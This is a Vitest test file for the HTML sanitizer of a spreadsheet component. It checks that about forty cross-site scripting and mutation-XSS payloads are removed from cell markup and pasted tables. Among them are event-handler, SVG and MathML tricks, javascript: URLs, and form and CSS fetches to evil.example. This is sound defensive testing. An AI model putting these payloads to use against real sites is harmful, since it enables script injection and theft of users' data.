// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { cleanMarkup, cleanTable } from './clean-markup.ts'

/* Markup that an attacker can save in a cell or put on the clipboard. The result is parsed as the page would parse it, and twice,
   because markup that changes between two passes can bypass a sanitizer. */

const X = 'globalThis.ran = 1'
const hostile: [what: string, markup: string][] = [
  ['a picture that fails', `<img src=x onerror="${X}">`],
  ['a handler in capitals on an allowed element', `<SPAN ONCLICK="${X}" OnMouseOver='${X}'>a</SPAN>`],
  ['a handler behind a slash instead of a space', `<b/onpointerenter=${X}/x>a</b>`],
  ['a handler behind a form feed', `<span\fonfocus\n=\t"${X}" tabindex=0 autofocus>a</span>`],
  ['a handler after a quote that ends an attribute', `<span title="'"onclick=${X} style='color:red'">a</span>`],
  ['a script', `<script>${X}</script>`],
  ['a script in a script', `<scr<script>ipt>${X}</scr</script>ipt>`],
  ['a script in a drawing', `<svg><script href="data:,${X}" /><g onload="${X}"></g></svg>`],
  ['an animation that sets an address', `<svg><a><animate attributeName=href values="javascript:${X}" /><text>a</text></a></svg>`],
  ['a drawing that uses another', `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x" /></svg>`],
  ['HTML in a drawing', `<svg><foreignObject><iframe src="javascript:${X}"></iframe></foreignObject></svg>`],
  [
    'a style in a formula that ends it',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${X}&gt;">`,
  ],
  ['a form in a form in a formula', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`],
  ['a title in a drawing', `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`],
  ['an annotation with another encoding', `<math><annotation-xml encoding="text/html"><img src=x onerror=${X}></annotation-xml></math>`],
  ['a noscript that ends in an attribute', `<noscript><p title="</noscript><img src=x onerror=${X}>">`],
  ['a textarea that ends in an attribute', `<textarea><span title="</textarea><img src=x onerror=${X}>">`],
  ['a template in a template', `<template><template><img src=x onerror=${X}></template><script>${X}</script></template>`],
  ['a declarative shadow root', `<div><template shadowrootmode="open"><img src=x onerror=${X}></template></div>`],
  ['a frame with its own document', `<iframe srcdoc="&lt;script&gt;parent.${X}&lt;/script&gt;"></iframe>`],
  ['an object and an embed', `<object data="data:text/html,<script>${X}</script>"></object><embed src="javascript:${X}">`],
  ['a javascript address with entities', `<a href="jav&#x09;ascript&colon;${X}">a</a>`],
  ['a javascript address behind control characters', `<a href="\u0001\u0000 java\nscript:${X}">a</a>`],
  ['a javascript address in capitals, with an entity for a letter', `<a xlink:href="&#74;AVASCRIPT:${X}" href="vbscript:x">a</a>`],
  ['an address with a document', `<a href="data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=" target=_top>a</a>`],
  [
    'a form that sends elsewhere',
    `<form action="https://evil.example"><input name=password><button formaction="javascript:${X}">a</button></form>`,
  ],
  ['a base and a refresh', `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:${X}">`],
  [
    'a style sheet from elsewhere',
    `<link rel=stylesheet href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";</style>`,
  ],
  ['a comment that ends early', `<!--><img src=x onerror=${X}>--><!--a--!><img src=x onerror=${X}>`],
  ['a section of characters', `<![CDATA[><img src=x onerror=${X}>]]><?xml-stylesheet href="javascript:${X}"?>`],
  ['names that shadow those of the document', `<form name=body id=cookie><span id=attributes name=getElementById>a</span></form>`],
  ['a style that fetches a picture', `<span style="background:url(https://evil.example/1.png)">a</span>`],
  ['a style that hides its fetching', `<span style="background:u\\72l('https://evil.example/2.png');--x:url(//evil.example/3)">a</span>`],
  [
    'styles that fetch for borders, lists and pointers',
    `<div style="border-image:url(//evil.example/4) 1;cursor:url(//evil.example/5),auto;list-style:image-set('//evil.example/6' 1x)">a</div>`,
  ],
  ['a style that runs', `<div style="width:expression(${X});behavior:url(#x);-moz-binding:url(//evil.example/7)">a</div>`],
  ['a style that covers the page', `<div style="position:fixed;inset:0;z-index:99999;opacity:0">a</div>`],
  ['a class of the product that covers the page', `<div class="fortune-popover-backdrop dialog">a</div>`],
  [
    'the background of a table',
    `<table background="https://evil.example/8.png"><tr><td background="//evil.example/9.png" style="background-image:url(//evil.example/10)">a</td></tr></table>`,
  ],
  ['a handler on a cell', `<table onpaste=${X}><tr><td onclick=${X} contenteditable is=x-y>a</td></tr></table>`],
  ['a picture thrown out of a table', `<table><tr><img src=x onerror=${X}><td>a</td></tr></table>`],
  [
    'a style sheet of a table that fetches',
    `<style>@import url(//evil.example/11);td{background:u\\72l(//evil.example/12);color:red}th{background:url(//evil.example/13)}</style><table><tr><td>a</td></tr></table>`,
  ],
  ['a style sheet of a table that ends in a picture', `<table><tr><td><style>td{}</style/><img src=x onerror=${X}></td></tr></table>`],
]

const parse = (markup: string) => new DOMParser().parseFromString(`<body>${markup}`, 'text/html')
const everything = (found: Document) => [...found.body.querySelectorAll<HTMLElement>('*')]

const drawn = new Set(['SPAN', 'BR', 'DIV', 'P', 'B', 'I', 'U', 'S', 'TABLE', 'COLGROUP', 'COL', 'TBODY', 'TR', 'TD'])
const read = new Set([...drawn, 'STYLE', 'TH', 'THEAD', 'TFOOT', 'FONT', 'STRONG', 'EM', 'A'])
const attributes = /^(class|style|index|rangeindex|dir|data-type|rowspan|colspan|width|height|align|valign|bgcolor|color|face|size)$/
const looks =
  /^(color|background-color|font(-.+)?|text-.+|vertical-align|white-space.*|word-.+|overflow-wrap|line-height|letter-spacing|width|height|border(-.+)?|padding(-.+)?)$/
const parts = /^(luckysheet-(formula|input)-|fortune-formula-)/
const fetches = /url\(|image\(|image-set\(|expression|@import|\\|\/\//i

/** Describes everything in the document that is not on the allow list. */
function wrongs(found: Document, elements: Set<string>) {
  return everything(found).flatMap((element) => {
    const { tagName, namespaceURI } = element
    // The attribute `is` cannot be removed from an element; an empty value has no effect.
    const given = [...element.attributes].filter(({ name, value }) => !(name === 'is' && value === ''))
    const wrong = given.filter(({ name }) => !attributes.test(name)).map(({ name }) => `${tagName} has ${name}`)
    if (!elements.has(tagName)) wrong.push(`${tagName} is there`)
    if (namespaceURI !== 'http://www.w3.org/1999/xhtml') wrong.push(`${tagName} is of ${namespaceURI}`)
    for (const { value, name } of element.attributes) if (fetches.test(value)) wrong.push(`${tagName} ${name}=${value}`)
    if (elements === drawn) for (const name of element.classList) if (!parts.test(name)) wrong.push(`${tagName} is of the class ${name}`)
    for (const name of element.style ?? []) if (!looks.test(name)) wrong.push(`${tagName} is drawn with ${name}`)
    if (tagName === 'STYLE' && /url\(|image|@import|\\[0-9a-f]/i.test(element.textContent ?? ''))
      wrong.push(`a style sheet fetches: ${element.textContent}`)
    return wrong
  })
}

describe.each([
  ['cells as the grid draws them', cleanMarkup, drawn],
  ['a table that is pasted', (markup: string) => cleanTable(`${markup}<table><tr><td>1</td></tr></table>`), read],
] as const)('%s', (_, clean, elements) => {
  it.each(hostile)('removes %s', (_what, markup) => {
    const once = clean(markup)
    const found = parse(once)
    expect(wrongs(found, elements)).toEqual([])
    const again = parse(found.body.innerHTML)
    expect(wrongs(again, elements)).toEqual([])
    expect(again.body.innerHTML).toBe(found.body.innerHTML)
    const host = document.createElement('div')
    host.innerHTML = once
    document.body.append(host)
    expect((globalThis as { ran?: number }).ran).toBeUndefined()
    host.remove()
  })
})

describe('allowed markup', () => {
  it('keeps formatted text runs', () => {
    const text = `<span class="luckysheet-input-span" index='0' style='font-weight:bold;color:#f00;font-size:11pt;text-decoration: underline;'>a &lt; b</span><br>c`
    const [span] = everything(parse(cleanMarkup(text)))
    expect(span?.textContent).toBe('a < b')
    expect([span?.style.fontWeight, span?.style.color, span?.style.fontSize, span?.getAttribute('index')]).toEqual([
      'bold',
      'rgb(255, 0, 0)',
      '11pt',
      '0',
    ])
    expect(span?.className).toBe('luckysheet-input-span')
  })

  it('keeps the colours of a formula', () => {
    const text = `<span dir="auto" class="luckysheet-formula-text-func">SUM</span><span class="fortune-formula-functionrange-cell" rangeindex="0" dir="auto" style="color:#c1232b;">A1:A3</span>`
    const [name, range] = everything(parse(cleanMarkup(text)))
    expect([name?.className, range?.className, range?.getAttribute('rangeindex')]).toEqual([
      'luckysheet-formula-text-func',
      'fortune-formula-functionrange-cell',
      '0',
    ])
  })

  it('keeps a copied table with widths, borders and colours', () => {
    const text = `<table data-type="fortune-copy-action-table"><colgroup width="72px"></colgroup><tr><td colspan="2" style="border-left:1px solid #000;background:#ff0;height:19px;">1</td></tr></table>`
    for (const clean of [cleanMarkup, cleanTable]) {
      const found = parse(clean(text))
      expect(found.querySelector('table')?.getAttribute('data-type')).toBe('fortune-copy-action-table')
      const cell = found.querySelector('td')
      expect([cell?.colSpan, cell?.style.backgroundColor, cell?.style.height, cell?.style.borderLeftWidth]).toEqual([
        2,
        'rgb(255, 255, 0)',
        '19px',
        '1px',
      ])
    }
  })

  it('keeps the style sheet that describes the cells of another program', () => {
    const found = parse(
      cleanTable(
        `<style>\n.xl65\n\t{font-weight:700;\n\tmso-number-format:"\\@";\n\tbackground:#FFFF00;}\n</style><table><tr><td class="xl65">a</td></tr></table>`,
      ),
    )
    expect(found.querySelector('style')?.textContent).toContain('mso-number-format:"\\@";\n\tbackground:#FFFF00;')
    expect(found.querySelector('td')?.className).toBe('xl65')
  })

  it('keeps text that only looks like markup, and numbers', () => {
    expect(parse(cleanMarkup('1 &lt; 2 &amp; 3')).body.textContent).toBe('1 < 2 & 3')
    expect(cleanMarkup(12)).toBe('12')
    expect(cleanMarkup(undefined)).toBe('')
    expect(cleanTable('a stable table')).toBe('')
  })
})
